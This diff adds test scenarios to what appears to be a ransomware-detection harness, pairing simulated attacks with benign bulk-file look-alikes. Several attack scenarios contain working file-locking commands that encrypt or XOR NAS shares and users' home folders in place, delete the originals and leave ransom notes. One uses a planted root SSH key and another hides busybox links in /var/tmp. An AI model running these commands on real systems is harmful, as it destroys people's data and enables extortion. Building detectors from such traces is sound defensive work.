@@ -1846,3 +1846,209 @@ sc_b66_cron_pgdump_gpg_rotate() {
   echo "dumps-left $(ls /srv/db/dumps | wc -l): $(ls /srv/db/dumps | tr '\n' ' ')" >> $CASE/facts
   rm -rf /srv/db /usr/local/bin/shopdb-dump /usr/local/sbin/shopdb-backup
 }
+
+# ---- seventeenth batch: a locker over a bind mount under /mnt (the log names the mount's paths), a QNAP-style locker
+# through busybox applet links (`7z a -p -mhe=on` per file, `rm` and `sh` are /bin/busybox, notes by the shell's own
+# redirection), a locker run from a second ssh login inside the first (a stolen root key: new auid and session), one
+# root process fanning out over two users' homes with `sudo -u USER sh -c … &`, a new python3 per file from find -exec
+pre_h51_ssh_sudo_bindmount_mnt() { mkdir -p /mnt/nas; mount --bind /srv/nas/share /mnt/nas; }
+sc_h51_ssh_sudo_bindmount_mnt() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  sshx deploy 'sudo sh -c '"'"'cd /mnt/nas && find . -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Bm-51x9 -in "$f" -out "$f.bmnt" && rm -f "$f"; done; find . -type d | while read -r d; do echo "Your NAS files are encrypted. bmnt@onionmail.example" > "$d/BMNT-README.txt"; done; echo ok'"'"
+  umount /mnt/nas; rmdir /mnt/nas
+}
+pre_h52_ssh_busybox_7z_qnap() {
+  install -d -m 755 /var/tmp/.qbin
+  for a in sh rm find printf; do ln -sf /bin/busybox /var/tmp/.qbin/$a; done
+  cat > /var/tmp/.qbin/q.sh <<'S'
+for d in $(find /srv/nas/share -type d); do
+  for f in "$d"/*; do
+    [ -f "$f" ] || continue
+    7z a -bd -mx=1 -p'Qn4p-52!x' -mhe=on "$f.7z" "$f" >/dev/null && rm -f "$f"
+  done
+  printf 'All your files were locked with 7z. Visit qnap52.onion\n' > "$d/!!!READ_ME.txt"
+done
+echo ok
+S
+  chmod 755 /var/tmp/.qbin/q.sh
+}
+sc_h52_ssh_busybox_7z_qnap() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  sshx svc-nas 'PATH=/var/tmp/.qbin:$PATH; sh /var/tmp/.qbin/q.sh'
+  rm -rf /var/tmp/.qbin
+}
+pre_h53_ssh_nested_ssh_root() { install -m 600 -o priya -g priya $HO/key /home/priya/.ssh/id_ed25519; }
+sc_h53_ssh_nested_ssh_root() {
+  echo "files $(find /home/mkowalski/Documents /var/www/shop/uploads -type f | wc -l) dirs $(find /home/mkowalski/Documents /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
+  sshx priya 'ssh -q -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@localhost '"'"'for top in /home/mkowalski/Documents /var/www/shop/uploads; do find "$top" -type f | while read -r f; do openssl enc -aes-256-ctr -pbkdf2 -pass pass:Ns-53q -in "$f" -out "$f.nstd" && rm -f "$f"; done; find "$top" -type d | while read -r d; do echo "Encrypted. nstd@proton.example" > "$d/NSTD-HELP.txt"; done; done; echo ok'"'"
+  rm -f /home/priya/.ssh/id_ed25519
+}
+sc_h54_ssh_root_sudo_u_fanout() {
+  echo "files $(find /home/mkowalski/Documents /home/priya/work -type f | wc -l) dirs $(find /home/mkowalski/Documents /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx root 'for u in mkowalski priya; do sudo -H -u $u sh -c '"'"'for top in ~/Documents ~/work; do [ -d "$top" ] || continue; find "$top" -type f | while read -r f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Fo-54z -in "$f" -out "$f.fnout" && rm -f "$f"; done; find "$top" -type d | while read -r d; do echo "Pay to restore. fnout@onionmail.example" > "$d/FNOUT-README.txt"; done; done'"'"' & done; wait; echo ok'
+}
+sc_h55_ssh_find_exec_python_c() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'find ~/Documents -type f -exec python3 -c "import sys,os;p=sys.argv[1];d=open(p,\"rb\").read();open(p,\"wb\").write(bytes(b^0x5c for b in d));os.rename(p,p+\".pyc5\")" {} \; ; find ~/Documents -type d -exec sh -c "echo Files encrypted. pyc5@onionmail.example > \"\$1/PYC5-RESTORE.txt\"" _ {} \; ; echo ok'
+}
+
+# ---- seventeenth batch, look-alikes a real host does in bulk: perl rename of 320 photos .jpeg -> .jpg, a browser cache's
+# churn (thousands of <16 hex>_0 files written and evicted under ~/.cache), an antivirus sweep moving 36 EICAR test files
+# out of 9 folders of the share into /var/quarantine, root's cron running `xz -T2 -9` over 240 rotated web logs
+pre_b67_ssh_rename_jpeg_jpg() {
+  rm -rf /home/tomas/Pictures; mkdir -p /home/tomas/Pictures/{2024-summer,2024-winter,2025-spring,phone}
+  python3 - <<'PY'
+import os, random
+r = random.Random(67)
+for i in range(320):
+    d = r.choice(['2024-summer', '2024-winter', '2025-spring', 'phone'])
+    with open(f'/home/tomas/Pictures/{d}/DSC{1000 + i:05d}.jpeg', 'wb') as f: f.write(b'\xff\xd8\xff\xe0' + os.urandom(r.randint(3000, 20000)))
+PY
+  chown -R tomas: /home/tomas/Pictures
+}
+sc_b67_ssh_rename_jpeg_jpg() {
+  sshx tomas "cd ~/Pictures && rename 's/\.jpeg\$/.jpg/' */*.jpeg && ls */*.jpg | wc -l" | tee $CASE/facts
+  rm -rf /home/tomas/Pictures
+}
+pre_b68_ssh_browser_cache_churn() {
+  rm -rf /home/priya/.cache/chromium
+  cat > /home/priya/.cache-sim.py <<'P'
+# what Chromium's simple cache backend does while browsing: entries <16 hex>_0 written once, an index rewritten,
+# the oldest entries evicted when the cache is over its size
+import os, random, collections
+d = os.path.expanduser('~/.cache/chromium/Default/Cache/Cache_Data'); os.makedirs(d, exist_ok=True)
+live = collections.deque(); made = evicted = 0
+for i in range(2400):
+    name = '%016x_0' % random.getrandbits(64)
+    with open(os.path.join(d, name), 'wb') as f: f.write(os.urandom(random.randint(500, 24000)))
+    live.append(name); made += 1
+    if len(live) > 700:
+        os.unlink(os.path.join(d, live.popleft())); evicted += 1
+    if i % 200 == 0:
+        with open(os.path.join(d, 'index-dir-the-real-index.tmp'), 'wb') as f: f.write(os.urandom(4000))
+        os.replace(os.path.join(d, 'index-dir-the-real-index.tmp'), os.path.join(d, 'the-real-index'))
+print('made', made, 'evicted', evicted)
+P
+  chown priya: /home/priya/.cache-sim.py; install -d -o priya -g priya /home/priya/.cache
+}
+sc_b68_ssh_browser_cache_churn() {
+  sshx priya 'python3 ~/.cache-sim.py' | tee $CASE/facts
+  rm -rf /home/priya/.cache/chromium /home/priya/.cache-sim.py
+}
+pre_b69_cron_root_av_quarantine() {
+  python3 - <<'PY'
+import os, random
+r = random.Random(69)
+eicar = b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
+dirs = sorted(d for d in os.listdir('/srv/nas/share'))
+for i in range(36):
+    with open(f'/srv/nas/share/{dirs[i % len(dirs)]}/invoice_{r.randint(1000,9999)}_{i}' + r.choice(['.pdf.exe', '.com', '.txt', '.doc']), 'wb') as f: f.write(eicar)
+PY
+  chown -R svc-nas: /srv/nas/share
+  cat > /usr/local/sbin/av-sweep <<'P'
+#!/usr/bin/python3
+# stands for clamscan -r --move=/var/quarantine: every file read, an infected one renamed into the quarantine with a
+# unique name and its permissions dropped, a line in the scan log
+import os, secrets, sys, time
+Q = '/var/quarantine'; os.makedirs(Q, mode=0o700, exist_ok=True)
+sig = b'EICAR-STANDARD-ANTIVIRUS-TEST-FILE'
+moved = scanned = 0
+with open('/var/log/av-sweep.log', 'a') as log:
+    for root, dirs, files in os.walk(sys.argv[1]):
+        for n in files:
+            p = os.path.join(root, n); scanned += 1
+            with open(p, 'rb') as f: data = f.read()
+            if sig in data:
+                dst = os.path.join(Q, f'{n}.{secrets.token_hex(4)}')
+                os.rename(p, dst); os.chmod(dst, 0); moved += 1
+                log.write(f'{time.strftime("%FT%T")} {p}: Eicar-Signature FOUND, moved to {dst}\n')
+    log.write(f'scanned {scanned} moved {moved}\n')
+P
+  chmod 755 /usr/local/sbin/av-sweep; rm -rf /var/quarantine
+}
+sc_b69_cron_root_av_quarantine() {
+  rm -f /tmp/.b69-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root /usr/local/sbin/av-sweep /srv/nas/share; touch /tmp/.b69-done" > /etc/cron.d/av-sweep
+  for i in $(seq 150); do [ -f /tmp/.b69-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/av-sweep
+  echo "quarantined $(ls /var/quarantine | wc -l); $(tail -1 /var/log/av-sweep.log)" >> $CASE/facts
+  rm -rf /var/quarantine /usr/local/sbin/av-sweep /var/log/av-sweep.log
+}
+pre_b70_cron_root_xz_weblogs() {
+  rm -rf /var/www/shop/logs; mkdir -p /var/www/shop/logs
+  python3 - <<'PY'
+import random
+r = random.Random(70)
+for site in ['shop', 'api', 'static', 'admin']:
+    for n in range(1, 61):
+        with open(f'/var/www/shop/logs/{site}-access.log.{n}', 'w') as f:
+            for _ in range(r.randint(200, 600)):
+                f.write(f'10.0.{r.randint(0,255)}.{r.randint(1,254)} - - [01/Dec/2026:10:{r.randint(0,59):02d}:00 +0000] "GET /{site}/{r.randint(1,9999)} HTTP/1.1" 200 {r.randint(100,90000)}\n')
+PY
+  touch /var/www/shop/logs/{shop,api,static,admin}-access.log
+  find /var/www/shop/logs -name '*.log.*' -exec touch -d '3 days ago' {} +
+}
+sc_b70_cron_root_xz_weblogs() {
+  rm -f /tmp/.b70-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root find /var/www/shop/logs -name '*.log.[0-9]*' ! -name '*.xz' -mtime +1 -print0 | xargs -0 -r xz -T2 -9; touch /tmp/.b70-done" > /etc/cron.d/weblogs-xz
+  for i in $(seq 150); do [ -f /tmp/.b70-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/weblogs-xz
+  echo "xz $(find /var/www/shop/logs -name '*.xz' | wc -l)" >> $CASE/facts
+  rm -rf /var/www/shop/logs
+}
+
+# ---- seventeenth batch, second half: the bind mount again under the host rules (which name /srv, /home and /var/www,
+# not /mnt), `perl -i` rewriting every file of a folder tree in one process (no suffix, no temp name of its own) with a
+# note per folder; look-alikes: an admin's encrypted tar of one folder onto a USB stick under /media (originals kept),
+# root's cron `gzip -k -9` + `gzip -t` + `rm` per rotated log, a shell loop of `mv` renaming 300 `.JPG` to `.jpg`
+pre_h56_ssh_bindmount_host_rules() { mkdir -p /mnt/nas; mount --bind /srv/nas/share /mnt/nas; }
+sc_h56_ssh_bindmount_host_rules() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  sshx svc-nas 'cd /mnt/nas && find . -type f -exec ccrypt -e -f -K Cc-56-mnt {} + ; for d in $(find . -type d); do echo "Files locked. mnt56@onionmail.example" > "$d/MNT56-README.txt"; done; echo ok'
+  umount /mnt/nas; rmdir /mnt/nas
+}
+sc_h57_ssh_perl_i_inplace() {
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'cd ~/work && find . -type f -print0 | xargs -0 perl -i -0777 -pe '"'"'$_ ^= "\x5a" x length'"'"' && find . -type d -exec sh -c "echo Your work is encrypted. perli@onionmail.example > \"\$1/PERLI-README.txt\"" _ {} \; ; echo ok'
+}
+pre_b71_ssh_tar_openssl_usb() { mkdir -p /media/usb0; }
+sc_b71_ssh_tar_openssl_usb() {
+  sshx mkowalski 'sudo sh -c "tar czf - -C /home/mkowalski Documents | openssl enc -aes-256-cbc -pbkdf2 -pass pass:Usb-71-bk -out /media/usb0/Documents-2026-12-08.tgz.enc && sha256sum /media/usb0/Documents-2026-12-08.tgz.enc > /media/usb0/SHA256SUMS"; ls -la /media/usb0' | tee $CASE/facts
+  rm -rf /media/usb0
+}
+pre_b72_cron_root_gzip_k_rm() {
+  rm -rf /srv/app; mkdir -p /srv/app/log
+  python3 - <<'PY'
+import random
+r = random.Random(72)
+for svc in ['orders', 'payments', 'search', 'mailer', 'auth']:
+    for n in range(1, 61):
+        with open(f'/srv/app/log/{svc}.log.{n}', 'w') as f:
+            for _ in range(r.randint(150, 500)):
+                f.write(f'2026-11-{r.randint(1,30):02d} {r.randint(0,23):02d}:{r.randint(0,59):02d} {svc} INFO id={r.randint(1,10**7)} ms={r.randint(1,800)}\n')
+PY
+  touch /srv/app/log/{orders,payments,search,mailer,auth}.log
+}
+sc_b72_cron_root_gzip_k_rm() {
+  rm -f /tmp/.b72-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root cd /srv/app/log && for f in *.log.[0-9]*; do case \"\$f\" in *.gz) continue;; esac; gzip -k -9 \"\$f\" && gzip -t \"\$f.gz\" && rm -f \"\$f\"; done; touch /tmp/.b72-done" > /etc/cron.d/app-logs-gzip
+  for i in $(seq 150); do [ -f /tmp/.b72-done ] && break; sleep 1; done; sleep 2; rm -f /etc/cron.d/app-logs-gzip
+  echo "gz $(ls /srv/app/log/*.gz | wc -l) left $(ls /srv/app/log | wc -l)" >> $CASE/facts
+  rm -rf /srv/app
+}
+pre_b73_ssh_mv_loop_JPG_jpg() {
+  rm -rf /home/tomas/Pictures; mkdir -p /home/tomas/Pictures/{camera-a,camera-b,camera-c}
+  python3 - <<'PY'
+import os, random
+r = random.Random(73)
+for i in range(310):
+    d = r.choice(['camera-a', 'camera-b', 'camera-c'])
+    with open(f'/home/tomas/Pictures/{d}/P{7000 + i:05d}.JPG', 'wb') as f: f.write(b'\xff\xd8\xff\xe1' + os.urandom(r.randint(3000, 20000)))
+PY
+  chown -R tomas: /home/tomas/Pictures
+}
+sc_b73_ssh_mv_loop_JPG_jpg() {
+  sshx tomas 'cd ~/Pictures && for f in */*.JPG; do mv -n -- "$f" "${f%.JPG}.jpg"; done; ls */*.jpg | wc -l' | tee $CASE/facts
+  rm -rf /home/tomas/Pictures
+}
